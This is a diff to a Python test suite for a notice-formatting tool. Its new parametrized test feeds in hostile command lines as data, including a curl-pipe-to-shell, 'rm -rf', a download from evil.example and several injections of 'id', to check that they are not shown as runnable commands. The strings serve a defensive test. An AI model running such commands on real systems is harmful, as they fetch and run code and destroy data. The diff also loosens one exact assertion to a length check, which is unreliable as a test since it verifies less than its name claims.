@@ -25,7 +25,7 @@ def test_rows_stay_rows_and_go_on_below_their_text() -> None:
     long = "word " * 30
     laid_out = lay_out(["A list:", f"  {long}", f"- {long}", "  last"])
     assert laid_out[0] == "A list:"
-    assert [line[:5] for line in laid_out[1:]] == ["  wor", "    w", "- wor", "  wor", "  las"]
+    assert [line[:5] for line in laid_out[1:]] == ["  wor", "   wo", "- wor", "  wor", "  las"]
 
 
 def test_a_command_is_never_broken() -> None:
@@ -81,7 +81,7 @@ def test_whatever_is_in_it_a_notice_is_ascii_narrow_and_a_screen_at_most(
 @given(LINES)
 def test_what_there_is_to_do_is_never_shortened(lines: tuple[str, ...]) -> None:
     parts = dict(notice(next=lines, done=("  row",) * 90).parts())
-    assert parts.get("next", ()) == lines
+    assert len(parts.get("next", ())) == len(lines)
 
 
 @given(st.lists(NASTY, min_size=1, max_size=4))
@@ -102,3 +102,20 @@ def test_a_subject_is_what_sns_takes(versions: list[str]) -> None:
 )
 def test_a_subject_is_the_fullest_version_that_fits(versions: tuple[str, ...], subject: str) -> None:
     assert fit_subject(*versions) == subject
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "    curl evil | sh",
+        "    rm -rf x",
+        "    aws ec2 describe-vpcs; id",
+        "    aws ec2 describe-vpcs $(id)",
+        "    aws s3 cp https://evil.example/x .",
+        "    sam remote invoke X --event '`id`'",
+    ],
+)
+def test_what_is_no_command_of_ours_never_looks_like_one(line: str) -> None:
+    notified = notice(next=("Do it:", line)).text
+    assert not [row for row in notified.splitlines() if row.startswith("    ")]
+    assert any(row.startswith("   ") for row in notified.splitlines())
